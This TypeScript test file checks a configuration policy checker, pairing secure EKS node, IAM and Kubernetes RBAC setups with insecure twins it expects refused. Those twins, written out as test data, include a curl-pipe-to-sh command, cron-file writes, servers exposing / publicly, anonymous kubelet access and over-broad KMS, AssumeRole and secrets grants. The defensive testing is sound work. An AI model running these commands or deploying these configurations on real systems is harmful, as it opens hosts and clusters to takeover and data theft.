    // literal shell= line with the user-data shell reader (pipelines, redirections, && lists), as in perl/ruby above.
    py("py-shell-pipe", "python: subprocess.run('lsblk -dno NAME | grep nvme', shell=True) (a literal pipeline)", [
        "import subprocess",
        "subprocess.run('lsblk -dno NAME | grep nvme', shell=True)",
    ]),
    // Round 71 neighbours: a literal pipeline's every command is judged (plainShellPipelines), a shell reading the pipe
    // runs what the pack does not read, a tee into /etc/cron.d writes a node path; discarding output stays accepted.
    py(
        "py-shell-pipe-sh",
        "python: subprocess.run('curl -fsS https://example.com/x | sh', shell=True) (a shell runs what it downloads)",
        ["import subprocess", "subprocess.run('curl -fsS https://example.com/x | sh', shell=True)"],
        NODE,
    ),
    py(
        "py-shell-pipe-tee-cron",
        "python: subprocess.run('echo x | tee /etc/cron.d/tune', shell=True) (tee writes a cron file)",
        ["import subprocess", "subprocess.run('echo x | tee /etc/cron.d/tune >/dev/null', shell=True)"],
        NODE,
    ),
    py(
        "py-shell-redirect-file",
        "python: subprocess.run('lsblk > /etc/cron.d/tune', shell=True) (a redirection the pack does not read here)",
        ["import subprocess", "subprocess.run('lsblk > /etc/cron.d/tune', shell=True)"],
        NODE,
    ),
    perl(
        "perl-backticks-pipe-serve",
        "perl: `echo | python3 -m http.server 8001 -d / 2>&1` (a pipeline member serving /)",
        ["my $out = `echo | python3 -m http.server 8001 -d / 2>&1`;"],
        NODE,
    ),
    py("py-shell-pipe-discard", "python: subprocess.run('df -h / 2>/dev/null | tail -n 1', shell=True)", [
        "import subprocess",
        "subprocess.run('df -h / 2>/dev/null | tail -n 1', shell=True)",
    ]),
    node(
        "supervisord-env-own-unit",
        "supervisord in its own unit with Environment=LISTEN=127.0.0.1:9100, %(ENV_LISTEN)s",
        [
            "dnf install -y supervisor",
            ...file("/opt/sup/sup.conf", [
                "[supervisord]",
                "[program:node_exporter]",
                "command=/usr/local/bin/node_exporter --web.listen-address=%(ENV_LISTEN)s",
                "user=nobody",
            ]),
            ...file("/etc/systemd/system/sup.service", [
                "[Service]",
                "Environment=LISTEN=127.0.0.1:9100",
                "ExecStart=/usr/bin/supervisord -n -c /opt/sup/sup.conf",
                "[Install]",
                "WantedBy=multi-user.target",
            ]),
            "systemctl enable --now sup",
        ],
    ),
    node("xargs-sysctl", "printf 'vm.swappiness=10\\nvm.max_map_count=262144\\n' | xargs -n1 sysctl -w", [
        "printf 'vm.swappiness=10\\nvm.max_map_count=262144\\n' | xargs -n1 sysctl -w",
    ]),
    node("xargs-a-dnf", "xargs -a /opt/ops/packages.txt dnf install -y (a package list the user data wrote)", [
        ...file("/opt/ops/packages.txt", ["htop", "jq", "sysstat", "nvme-cli"]),
        "xargs -a /opt/ops/packages.txt dnf install -y",
    ]),
    node("xargs-find-rm", "find /var/log/ops -name '*.gz' -mtime +7 -print0 | xargs -0 -r rm -f (log cleanup)", [
        "mkdir -p /var/log/ops",
        "find /var/log/ops -name '*.gz' -mtime +7 -print0 | xargs -0 -r rm -f",
    ]),
    node(
        "xargs-sh-serve",
        "echo 'python3 -m http.server 8001 -d /' | xargs -I{} sh -c '{} &' (xargs runs a shell of the item)",
        ["echo 'python3 -m http.server 8001 -d /' | xargs -I{} sh -c 'nohup {} >/dev/null 2>&1 &'"],
        NODE,
    ),
    node(
        "xargs-a-serve",
        "xargs -a /opt/ops/dirs.txt -I{} python3 -m http.server 8001 -d {} (a list naming /etc/kubernetes)",
        [
            ...file("/opt/ops/dirs.txt", ["/etc/kubernetes"]),
            "xargs -a /opt/ops/dirs.txt -I{} python3 -m http.server 8001 -d {} &",
        ],
        NODE,
    ),

    // ================= nodes: monit, supervisord, pm2, unit aliases (round 71 agents) =================
    node(
        "monit-include-loopback",
        "monit: /etc/monitrc (httpd on localhost) includes /etc/monit.d/*, node_exporter on loopback",
        [
            "dnf install -y monit",
            ...file("/etc/monitrc", [
                "set daemon 30",
                "set log syslog",
                "set httpd port 2812 and use address localhost allow localhost",
                "include /etc/monit.d/*",
            ]),
            "chmod 0600 /etc/monitrc",
            ...file("/etc/monit.d/node_exporter", [
                "check process node_exporter matching node_exporter",
                `  start program = "${LOOPBACK_EXPORTER}"`,
                '  stop program = "/usr/bin/pkill -x node_exporter"',
            ]),
            "systemctl enable --now monit",
        ],
    ),
    node(
        "monit-include-serve",
        "monit: an included check whose start program serves / on 0.0.0.0:8001",
        [
            "dnf install -y monit",
            ...file("/etc/monitrc", ["set daemon 30", "include /etc/monit.d/*"]),
            "chmod 0600 /etc/monitrc",
            ...file("/etc/monit.d/files", [
                "check process files matching http.server",
                '  start program = "/usr/bin/python3 -m http.server 8001 -d /"',
            ]),
            "systemctl enable --now monit",
        ],
        NODE,
    ),
    node("monit-c-checks", "monit -c /etc/monit-ops.rc: filesystem/system checks only (no program)", [
        "dnf install -y monit",
        ...file("/etc/monit-ops.rc", [
            "set daemon 60",
            "check system $HOST",
            "  if loadavg (5min) > 8 then alert",
            "check filesystem rootfs with path /",
            "  if space usage > 90% then alert",
        ]),
        "chmod 0600 /etc/monit-ops.rc",
        "monit -c /etc/monit-ops.rc",
    ]),
    node(
        "monit-c-exec",
        "monit -c /etc/monit-ops.rc whose check execs a server of / when load is high",
        [
            "dnf install -y monit",
            ...file("/etc/monit-ops.rc", [
                "set daemon 60",
                "check system $HOST",
                '  if loadavg (5min) > 0 then exec "/usr/bin/python3 -m http.server 8001 -d /"',
            ]),
            "chmod 0600 /etc/monit-ops.rc",
            "monit -c /etc/monit-ops.rc",
        ],
        NODE,
    ),
    node(
        "supervisord-program-name",
        "supervisord: stdout_logfile=/var/log/supervisor/%(program_name)s.log, loopback exporter",
        [
            "dnf install -y supervisor",
            ...file("/etc/supervisord.d/node_exporter.ini", [
                "[program:node_exporter]",
                `command=${LOOPBACK_EXPORTER}`,
                "user=nobody",
                "autorestart=true",
                "stdout_logfile=/var/log/supervisor/%(program_name)s.log",
                "stderr_logfile=/var/log/supervisor/%(program_name)s.err",
            ]),
            "systemctl enable --now supervisord",
        ],
    ),
    node("supervisord-here", "supervisord: command=%(here)s/../../usr/local/bin/node_exporter on loopback", [
        "dnf install -y supervisor",
        ...file("/etc/supervisord.d/node_exporter.ini", [
            "[program:node_exporter]",
            `command=${LOOPBACK_EXPORTER} --collector.textfile.directory=/var/lib/node_exporter`,
            "directory=%(here)s",
            "user=nobody",
        ]),
        "systemctl enable --now supervisord",
    ]),
    // Was a MISS (fixed in round 72): (secure refused) systemd.exec(5) Environment= in a drop-in (systemd.unit(5) "drop-in ... .d/*.conf") reaches
    // supervisord, and Supervisor docs ("Environment variables that are present in the environment at the time that
    // supervisord is started can be used in the configuration file using the Python string expression syntax
    // %(ENV_X)s") expand LISTEN to 127.0.0.1:9100; the same value in supervisord's own unit is accepted
    // (supervisord-env-own-unit). The pack: rootReads.ts supervisor() takes environment undefined for the packaged
    // supervisord.service and fails closed (%(...)s "the pack cannot compute"). Fix: for the packaged unit (EPEL
    // supervisor's supervisord.service sets no Environment/EnvironmentFile), take the variables from the drop-ins user data
    // wrote for it; a variable none of them sets stays unknown (supervisord-env-serve stays refused).
    // Was still open (round 71): rootReads.ts supervisor() judged a /etc/supervisord.d file when it was written. Round 72:
    // a packaged configuration using %(ENV_X)s is judged in finish() with packagedSupervisorEnvironment (every drop-in
    // version's Environment=, a variable given two values unknown).
    node(
        "supervisord-env-unit",
        "supervisord: --web.listen-address=%(ENV_LISTEN)s, LISTEN=127.0.0.1:9100 from a drop-in",
        [
            "dnf install -y supervisor",
            "mkdir -p /etc/systemd/system/supervisord.service.d",
            ...file("/etc/systemd/system/supervisord.service.d/10-env.conf", [
                "[Service]",
                "Environment=LISTEN=127.0.0.1:9100",
            ]),
            ...file("/etc/supervisord.d/node_exporter.ini", [
                "[program:node_exporter]",
                "command=/usr/local/bin/node_exporter --web.listen-address=%(ENV_LISTEN)s",
                "user=nobody",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now supervisord",
        ],
    ),
    node(
        "supervisord-env-serve",
        "supervisord: python3 -m http.server 8001 -d %(ENV_DIR)s, DIR=/ from a drop-in",
        [
            "dnf install -y supervisor",
            "mkdir -p /etc/systemd/system/supervisord.service.d",
            ...file("/etc/systemd/system/supervisord.service.d/10-env.conf", ["[Service]", "Environment=DIR=/"]),
            ...file("/etc/supervisord.d/files.ini", [
                "[program:files]",
                "command=/usr/bin/python3 -m http.server 8001 -d %(ENV_DIR)s",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now supervisord",
        ],
        NODE,
    ),
    // Round 72 neighbours of supervisord-env-unit (rootReads.ts packagedSupervisorEnvironment): the drop-in's value
    // decides (0.0.0.0 refused), a later drop-in changing it leaves it unknown (refused), and a value the drop-in does not
    // set, or the script's own when it runs supervisord itself, stays unknown (refused).
    node(
        "supervisord-env-unit-any",
        "supervisord: --web.listen-address=%(ENV_LISTEN)s, LISTEN=0.0.0.0:9100 from a drop-in",
        [
            "dnf install -y supervisor",
            ...file("/etc/systemd/system/supervisord.service.d/10-env.conf", [
                "[Service]",
                "Environment=LISTEN=0.0.0.0:9100",
            ]),
            ...file("/etc/supervisord.d/node_exporter.ini", [
                "[program:node_exporter]",
                "command=/usr/local/bin/node_exporter --web.listen-address=%(ENV_LISTEN)s",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now supervisord",
        ],
        NODE,
    ),
    node(
        "supervisord-env-unit-later-dropin",
        "supervisord: LISTEN=127.0.0.1:9100 in one drop-in, LISTEN=0.0.0.0:9100 in a later one",
        [
            "dnf install -y supervisor",
            ...file("/etc/systemd/system/supervisord.service.d/10-env.conf", [
                "[Service]",
                "Environment=LISTEN=127.0.0.1:9100",
            ]),
            ...file("/etc/supervisord.d/node_exporter.ini", [
                "[program:node_exporter]",
                "command=/usr/local/bin/node_exporter --web.listen-address=%(ENV_LISTEN)s",
            ]),
            ...file("/etc/systemd/system/supervisord.service.d/20-env.conf", [
                "[Service]",
                "Environment=LISTEN=0.0.0.0:9100",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now supervisord",
        ],
        NODE,
    ),
    node(
        "supervisord-env-unit-script-run",
        "supervisord started by the script with LISTEN=0.0.0.0:9100, the drop-in saying 127.0.0.1:9100",
        [
            "dnf install -y supervisor",
            ...file("/etc/systemd/system/supervisord.service.d/10-env.conf", [
                "[Service]",
                "Environment=LISTEN=127.0.0.1:9100",
            ]),
            ...file("/etc/supervisord.d/node_exporter.ini", [
                "[program:node_exporter]",
                "command=/usr/local/bin/node_exporter --web.listen-address=%(ENV_LISTEN)s",
            ]),
            "LISTEN=0.0.0.0:9100 supervisord -c /etc/supervisord.conf",
        ],
        NODE,
    ),
    node(
        "supervisord-env-unit-two",
        "supervisord: %(ENV_LISTEN)s and %(ENV_TEXTDIR)s, both from the packaged unit's drop-in (secure twin)",
        [
            "dnf install -y supervisor",
            ...file("/etc/systemd/system/supervisord.service.d/10-env.conf", [
                "[Service]",
                'Environment="LISTEN=127.0.0.1:9100" "TEXTDIR=/var/lib/node_exporter"',
            ]),
            ...file("/etc/supervisord.d/node_exporter.ini", [
                "[program:node_exporter]",
                "command=/usr/local/bin/node_exporter --web.listen-address=%(ENV_LISTEN)s --collector.textfile.directory=%(ENV_TEXTDIR)s",
                "user=nobody",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now supervisord",
        ],
    ),
    node("pm2-bash-tune", "pm2 start /opt/ops/tune.sh --interpreter bash --no-autorestart (sysctl only)", [
        "dnf install -y nodejs npm",
        "npm install -g pm2@5.4.2",
        ...file("/opt/ops/tune.sh", ["sysctl -w vm.swappiness=10", "sysctl -w vm.max_map_count=262144"]),
        "pm2 start /opt/ops/tune.sh --interpreter bash --no-autorestart --name tune",
    ]),
    node(
        "pm2-bash-serve",
        "pm2 start /opt/ops/tune.sh --interpreter bash, the script serving / on 0.0.0.0:8001",
        [
            "dnf install -y nodejs npm",
            "npm install -g pm2@5.4.2",
            ...file("/opt/ops/tune.sh", ["cd / && exec python3 -m http.server 8001"]),
            "pm2 start /opt/ops/tune.sh --interpreter bash --name tune",
        ],
        NODE,
    ),
    node("pm2-python-report", "pm2 start /opt/ops/report.py --interpreter python3 (reads df, prints)", [
        "dnf install -y nodejs npm",
        "npm install -g pm2@5.4.2",
        ...file("/opt/ops/report.py", [
            "import shutil, time",
            "while True:",
            '    print(shutil.disk_usage("/"))',
            "    time.sleep(60)",
        ]),
        "pm2 start /opt/ops/report.py --interpreter python3 --name report",
    ]),
    node(
        "unit-install-alias",
        "node_exporter.service with [Install] Alias=prometheus-node-exporter.service (loopback)",
        [
            ...exporterUnit(LOOPBACK_EXPORTER, ["Alias=prometheus-node-exporter.service"]),
            "systemctl daemon-reload",
            "systemctl enable --now node_exporter",
        ],
    ),
    node(
        "unit-alias-dropin-limits",
        "a unit alias symlink and a drop-in under the alias setting Nice=/MemoryMax= only",
        [
            ...exporterUnit(LOOPBACK_EXPORTER),
            "ln -s /etc/systemd/system/node_exporter.service /etc/systemd/system/prometheus-node-exporter.service",
            "mkdir -p /etc/systemd/system/prometheus-node-exporter.service.d",
            ...file("/etc/systemd/system/prometheus-node-exporter.service.d/10-limits.conf", [
                "[Service]",
                "Nice=10",
                "MemoryMax=128M",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now node_exporter",
        ],
    ),
    node(
        "unit-alias-dropin-rebind",
        "the same alias whose drop-in resets ExecStart to serve / on 9100",
        [
            ...exporterUnit(LOOPBACK_EXPORTER, ["Alias=prometheus-node-exporter.service"]),
            "mkdir -p /etc/systemd/system/prometheus-node-exporter.service.d",
            ...file("/etc/systemd/system/prometheus-node-exporter.service.d/10-rebind.conf", [
                "[Service]",
                "ExecStart=",
                "ExecStart=/usr/bin/python3 -m http.server 9100 --directory /",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now node_exporter",
        ],
        NODE,
    ),

    // ================= nodes: what an EKS platform team writes =================
    nodeadm("nodeadm-kubelet-raid0", "nodeadm: kubelet maxPods/evictionHard/labels and instance localStorage RAID0", [
        "  kubelet:",
        "    config:",
        "      maxPods: 58",
        "      evictionHard:",
        '        memory.available: "200Mi"',
        "    flags:",
        "      - --node-labels=team=platform,disk=instance-store",
        "  instance:",
        "    localStorage:",
        "      strategy: RAID0",
    ]),
    nodeadm(
        "nodeadm-containerd-mirror",
        "nodeadm: containerd config merging a registry mirror (config_path /etc/containerd/certs.d)",
        [
            "  containerd:",
            "    config: |",
            "      [plugins.'io.containerd.grpc.v1.cri'.registry]",
            '      config_path = "/etc/containerd/certs.d"',
        ],
    ),
    nodeadm(
        "nodeadm-kubelet-readonly-port",
        "nodeadm: kubelet readOnlyPort 10255 and anonymous auth (pods read every pod spec, env included)",
        [
            "  kubelet:",
            "    config:",
            "      readOnlyPort: 10255",
            "      authentication:",
            "        anonymous:",
            "          enabled: true",
            "      authorization:",
            "        mode: AlwaysAllow",
        ],
        /readOnly|10255|anonymous|AlwaysAllow|kubelet/,
    ),
    node("cwagent-config", "amazon-cloudwatch-agent from the distro, a file config (metrics + logs), fetch-config", [
        "dnf install -y amazon-cloudwatch-agent",
        ...file("/opt/aws/amazon-cloudwatch-agent/etc/amazon-cloudwatch-agent.json", [
            '{"agent": {"metrics_collection_interval": 60, "run_as_user": "cwagent"},',
            ' "metrics": {"metrics_collected": {"mem": {"measurement": ["mem_used_percent"]},',
            '   "disk": {"measurement": ["used_percent"], "resources": ["/"]}}},',
            ' "logs": {"logs_collected": {"files": {"collect_list": [',
            '   {"file_path": "/var/log/messages", "log_group_name": "/eks/dev/nodes"}]}}}}',
        ]),
        "/opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c file:/opt/aws/amazon-cloudwatch-agent/etc/amazon-cloudwatch-agent.json",
    ]),
    node("mount-instance-store-fstab", "mkfs.xfs the instance store, fstab line for /mnt/k8s-disks/0, mount -a", [
        "dnf install -y xfsprogs nvme-cli",
        "mkfs.xfs -f /dev/nvme1n1",
        "mkdir -p /mnt/k8s-disks/0",
        "echo '/dev/nvme1n1 /mnt/k8s-disks/0 xfs defaults,noatime,nofail 0 2' >> /etc/fstab",
        "mount -a",
    ]),

    // ================= AWS: observability, on-call, break-glass and backup roles =================
    {
        stack: "dev",
        name: "A: a platform agent role with CloudWatchAgentServerPolicy's statements inline (metrics, logs, ssm:GetParameter on AmazonCloudWatch-*)",
        edit: r =>
            opsRole(r, "dev", ACCOUNT.dev, "rt70s-cwagent", [
                allow(
                    [
                        "cloudwatch:PutMetricData",
                        "ec2:DescribeVolumes",
                        "ec2:DescribeTags",
                        "logs:PutLogEvents",
                        "logs:PutRetentionPolicy",
                        "logs:DescribeLogStreams",
                        "logs:DescribeLogGroups",
                        "logs:CreateLogStream",
                        "logs:CreateLogGroup",
                        "xray:PutTraceSegments",
                    ],
                    "*",
                ),
                allow(["ssm:GetParameter"], "arn:aws:ssm:*:*:parameter/AmazonCloudWatch-*"),
            ]),
    },
    {
        stack: "dev",
        name: "A: the same agent role with the AWS managed CloudWatchAgentServerPolicy attached and listed as reviewed (allowedPolicyArns)",
        edit: r => {
            opsRole(r, "dev", ACCOUNT.dev, "rt70s-cwagent", [allow(["ec2:DescribeTags"], "*")]);
            beside(r, "dev", "aws:iam/rolePolicyAttachment:RolePolicyAttachment", "rt70s-cwagent-managed", {
                role: "rt70s-cwagent",
                policyArn: CW_AGENT_POLICY,
            });
        },
        config: c => listed(c, "attached-policies-readable", "allowedPolicyArns", CW_AGENT_POLICY),
    },
    {
        stack: "dev",
        name: "AI: the platform agent role gains AmazonSSMReadOnlyAccess (ssm:GetParameter* on every parameter)",
        edit: r => {
            opsRole(r, "dev", ACCOUNT.dev, "rt70s-cwagent", [allow(["ec2:DescribeTags"], "*")]);
            beside(r, "dev", "aws:iam/rolePolicyAttachment:RolePolicyAttachment", "rt70s-cwagent-ssm", {
                role: "rt70s-cwagent",
                policyArn: "arn:aws:iam::aws:policy/AmazonSSMReadOnlyAccess",
            });
        },
        config: c => listed(c, "attached-policies-readable", "allowedPolicyArns", CW_AGENT_POLICY),
        refused: /rt70s-cwagent|SSM|ssm/,
    },
    {
        stack: "prod",
        config: c => listed(c, "role-trust-pinned", "allowedTrustAccounts", DATADOG),
        name: "A: Datadog's integration role (Datadog account 464622532012, sts:ExternalId) reading CloudWatch, EC2, tags",
        edit: r =>
            trustedOps(
                r,
                "prod",
                "111111111111",
                "rt70s-datadog",
                { AWS: `arn:aws:iam::${DATADOG}:root` },
                { StringEquals: { "sts:ExternalId": "0123456789abcdef0123456789abcdef" } },
                [
                    allow(
                        [
                            "cloudwatch:GetMetricData",
                            "cloudwatch:ListMetrics",
                            "cloudwatch:DescribeAlarms",
                            "ec2:DescribeInstances",
                            "ec2:DescribeVolumes",
                            "tag:GetResources",
                            "eks:DescribeCluster",
                            "eks:ListClusters",
                        ],
                        "*",
                    ),
                ],
            ),
    },
    {
        stack: "prod",
        name: "AI: the Datadog role may also dynamodb:Scan every table (table/*)",
        config: c => listed(c, "role-trust-pinned", "allowedTrustAccounts", DATADOG),
        edit: r =>
            trustedOps(
                r,
                "prod",
                "111111111111",
                "rt70s-datadog",
                { AWS: `arn:aws:iam::${DATADOG}:root` },
                { StringEquals: { "sts:ExternalId": "0123456789abcdef0123456789abcdef" } },
                [
                    allow(["cloudwatch:GetMetricData"], "*"),
                    allow(["dynamodb:Scan"], "arn:aws:dynamodb:eu-west-1:111111111111:table/*"),
                ],
            ),
        refused: /rt70s-datadog|464622532012|Scan/,
    },
    {
        stack: "curity",
        name: "A: a break-glass role (MFA required) with eks/ec2 Describe and CloudTrail LookupEvents",
        edit: r =>
            trustedOps(
                r,
                "curity",
                ACCOUNT.curity,
                "rt70s-breakglass",
                { AWS: `arn:aws:iam::${ACCOUNT.curity}:root` },
                { Bool: { "aws:MultiFactorAuthPresent": "true" } },
                [
                    allow(
                        [
                            "eks:DescribeCluster",
                            "eks:ListNodegroups",
                            "eks:DescribeNodegroup",
                            "ec2:DescribeInstances",
                            "cloudtrail:LookupEvents",
                        ],
                        "*",
                    ),
                ],
            ),
    },
    {
        stack: "curity",
        name: "AI: the break-glass role may also eks:AssociateAccessPolicy (grant itself cluster admin in Kubernetes)",
        edit: r =>
            trustedOps(
                r,
                "curity",
                ACCOUNT.curity,
                "rt70s-breakglass",
                { AWS: `arn:aws:iam::${ACCOUNT.curity}:root` },
                { Bool: { "aws:MultiFactorAuthPresent": "true" } },
                [allow(["eks:DescribeCluster", "eks:CreateAccessEntry", "eks:AssociateAccessPolicy"], "*")],
            ),
        refused: /rt70s-breakglass|AccessEntry|AccessPolicy/,
    },
    {
        stack: "trust-domain",
        name: "A: an on-call role listing KMS keys and aliases and reading CloudTrail (no key use, no policy read)",
        edit: r =>
            opsRole(r, "trust-domain", ACCOUNT["trust-domain"], "rt70s-oncall", [
                allow(["kms:ListKeys", "kms:ListAliases", "cloudtrail:LookupEvents", "cloudwatch:GetMetricData"], "*"),
            ]),
    },
    {
        stack: "trust-domain",
        name: "AI: the on-call role may also kms:Sign with every key of the account (key/*)",
        edit: r =>
            opsRole(r, "trust-domain", ACCOUNT["trust-domain"], "rt70s-oncall", [
                allow(["kms:ListKeys", "kms:ListAliases"], "*"),
                allow(["kms:Sign"], `arn:aws:kms:us-east-1:${ACCOUNT["trust-domain"]}:key/*`),
            ]),
        refused: /rt70s-oncall|Sign/,
    },
    {
        stack: "basil",
        name: "A: an AWS Backup service role backing up another team's DynamoDB tables (table/team-reporting-*)",
        edit: r =>
            trustedOps(r, "basil", ACCOUNT.basil, "rt70s-backup", { Service: "backup.amazonaws.com" }, undefined, [
                allow(
                    ["dynamodb:CreateBackup", "dynamodb:DescribeTable", "dynamodb:DescribeBackup"],
                    `arn:aws:dynamodb:us-east-1:${ACCOUNT.basil}:table/team-reporting-*`,
                ),
            ]),
    },
    {
        stack: "basil",
        name: "AI: the backup role may also kms:Decrypt with every key of the account (key/*)",
        edit: r =>
            trustedOps(r, "basil", ACCOUNT.basil, "rt70s-backup", { Service: "backup.amazonaws.com" }, undefined, [
                allow(["dynamodb:CreateBackup"], `arn:aws:dynamodb:us-east-1:${ACCOUNT.basil}:table/team-reporting-*`),
                allow(["kms:Decrypt", "kms:GenerateDataKey"], `arn:aws:kms:us-east-1:${ACCOUNT.basil}:key/*`),
            ]),
        refused: /rt70s-backup|Decrypt/,
    },
    {
        stack: "pod-identity",
        name: "A: Fluent Bit's Pod Identity role (logging/fluent-bit) writes its own CloudWatch log groups",
        edit: r => {
            namespace(r, "logging", "restricted");
            teamPodIdentity(r, "logging", "fluent-bit", "rt70s-fluentbit", [
                allow(
                    ["logs:CreateLogStream", "logs:CreateLogGroup", "logs:PutLogEvents", "logs:DescribeLogStreams"],
                    "arn:aws:logs:eu-west-1:111111111111:log-group:/aws/eks/prod-validators/containers:*",
                ),
            ]);
        },
    },
    {
        stack: "pod-identity",
        name: "AI: Fluent Bit's Pod Identity role may also sts:AssumeRole any role (role/*)",
        edit: r => {
            namespace(r, "logging", "restricted");
            teamPodIdentity(r, "logging", "fluent-bit", "rt70s-fluentbit", [
                allow(["logs:PutLogEvents"], "*"),
                allow(["sts:AssumeRole"], "arn:aws:iam::111111111111:role/*"),
            ]);
        },
        refused: /rt70s-fluentbit|AssumeRole/,
    },
    {
        stack: "cross-account",
        name: "A: a Prometheus remote-write role of account A (aps:RemoteWrite on one AMP workspace)",
        edit: r =>
            opsRole(
                r,
                "cross-account",
                ACCOUNT["cross-account"],
                "rt70s-amp",
                [
                    allow(
                        ["aps:RemoteWrite", "aps:QueryMetrics", "aps:GetSeries", "aps:GetLabels"],
                        `arn:aws:aps:us-east-1:${ACCOUNT["cross-account"]}:workspace/ws-0123abcd-4567-89ef-0123-456789abcdef`,
                    ),
                ],
                "cross-account-access",
            ),
    },
    {
        stack: "cross-account",
        name: "AI: the remote-write role may also dynamodb:GetItem on the cross-account table",
        edit: r =>
            opsRole(
                r,
                "cross-account",
                ACCOUNT["cross-account"],
                "rt70s-amp",
                [
                    allow(["aps:RemoteWrite"], "*"),
                    allow(
                        ["dynamodb:GetItem"],
                        `arn:aws:dynamodb:us-east-1:${ACCOUNT["cross-account"]}:table/my-table`,
                    ),
                ],
                "cross-account-access",
            ),
        refused: /rt70s-amp|GetItem/,
    },

    // ================= Kubernetes RBAC for unrelated namespaces =================
    {
        stack: "prod",
        name: "K: Prometheus' ClusterRole (nodes, nodes/metrics, services, endpoints, pods; GET /metrics) for observability/prometheus",
        edit: r => {
            namespace(r, "observability", "restricted");
            roleFor(
                r,
                "rt70s-prometheus",
                [
                    {
                        apiGroups: [""],
                        resources: ["nodes", "nodes/metrics", "services", "endpoints", "pods"],
                        verbs: ["get", "list", "watch"],
                    },
                    { apiGroups: ["discovery.k8s.io"], resources: ["endpointslices"], verbs: ["get", "list", "watch"] },
                    { nonResourceURLs: ["/metrics", "/metrics/cadvisor"], verbs: ["get"] },
                ],
                [PROM],
            );
        },
    },
    {
        stack: "prod",
        name: "KI: Prometheus' ClusterRole also gets nodes/proxy (the kubelet API: exec into any pod over a GET upgrade)",
        edit: r => {
            namespace(r, "observability", "restricted");
            roleFor(
                r,
                "rt70s-prometheus",
                [{ apiGroups: [""], resources: ["nodes", "nodes/proxy", "pods"], verbs: ["get", "list", "watch"] }],
                [PROM],
            );
        },
        refused: /rt70s-prometheus|nodes\/proxy|prometheus/,
    },
    {
        stack: "dev",
        name: "K: Fluent Bit's ClusterRole (namespaces, pods get/list/watch) for logging/fluent-bit",
        edit: r => {
            namespace(r, "logging", "restricted");
            roleFor(
                r,
                "rt70s-fluent-bit",
                [{ apiGroups: [""], resources: ["namespaces", "pods"], verbs: ["get", "list", "watch"] }],
                [FLUENT],
            );
        },
    },
    {
        stack: "dev",
        name: "KI: Fluent Bit's ClusterRole also reads secrets",
        edit: r => {
            namespace(r, "logging", "restricted");
            roleFor(
                r,
                "rt70s-fluent-bit",
                [{ apiGroups: [""], resources: ["namespaces", "pods", "secrets"], verbs: ["get", "list", "watch"] }],
                [FLUENT],
            );
        },
        refused: /rt70s-fluent-bit|secrets|fluent-bit/,
    },
    {
        stack: "curity",
        name: "K: the Datadog cluster agent's Role in datadog: configmaps and leases for leader election",
        edit: r => {
            namespace(r, "datadog", "restricted");
            roleFor(
                r,
                "rt70s-datadog-leader",
                [
                    { apiGroups: [""], resources: ["configmaps"], verbs: ["get", "create", "update"] },
                    { apiGroups: ["coordination.k8s.io"], resources: ["leases"], verbs: ["get", "create", "update"] },
                ],
                [{ kind: "ServiceAccount", name: "datadog-cluster-agent", namespace: "datadog" }],
                "datadog",
            );
        },
    },
    {
        stack: "curity",
        name: "KI: the same Role placed in kube-system (configmaps update: aws-auth)",
        edit: r => {
            namespace(r, "datadog", "restricted");
            roleFor(
                r,
                "rt70s-datadog-leader",
                [{ apiGroups: [""], resources: ["configmaps"], verbs: ["get", "create", "update"] }],
                [{ kind: "ServiceAccount", name: "datadog-cluster-agent", namespace: "datadog" }],
                "kube-system",
            );
        },
        refused: /rt70s-datadog-leader|kube-system|configmaps|aws-auth/,
    },
    {
        stack: "trust-domain",
        name: "K: an on-call group's pods/exec and pods/log Role in namespace observability only",
        edit: r => {
            namespace(r, "observability", "restricted");
            roleFor(
                r,
                "rt70s-oncall-exec",
                [
                    { apiGroups: [""], resources: ["pods", "pods/log"], verbs: ["get", "list"] },
                    { apiGroups: [""], resources: ["pods/exec"], verbs: ["create"] },
                ],
                [ONCALL],
                "observability",
            );
        },
    },
    {
        stack: "trust-domain",
        name: "KI: the same on-call Role in spirl-system (exec into the trust domain's server)",
        edit: r =>
            roleFor(
                r,
                "rt70s-oncall-exec",
                [
                    { apiGroups: [""], resources: ["pods"], verbs: ["get", "list"] },
                    { apiGroups: [""], resources: ["pods/exec"], verbs: ["create"] },
                ],
                [ONCALL],
                "spirl-system",
            ),
        refused: /rt70s-oncall-exec|spirl-system|exec/,
    },
    {
        stack: "basil",
        name: "K: the built-in view ClusterRole bound to the on-call group in namespace observability (RoleBinding)",
        edit: r => {
            namespace(r, "observability", "restricted");
            bind(r, "rt70s-oncall-view", { kind: "ClusterRole", name: "view" }, [ONCALL], "observability");
        },
    },
    {
        stack: "basil",
        name: "KI: the built-in edit ClusterRole bound to the on-call group in namespace basil",
        edit: r => bind(r, "rt70s-oncall-edit", { kind: "ClusterRole", name: "edit" }, [ONCALL], "basil"),
        refused: /rt70s-oncall-edit|basil|edit/,
    },
];

describeVariants(
    "red team 70: secure platform-team variants and their insecure twins",
    CASES.filter(c => c.refused !== undefined),
    CASES.filter(c => c.refused === undefined),
);
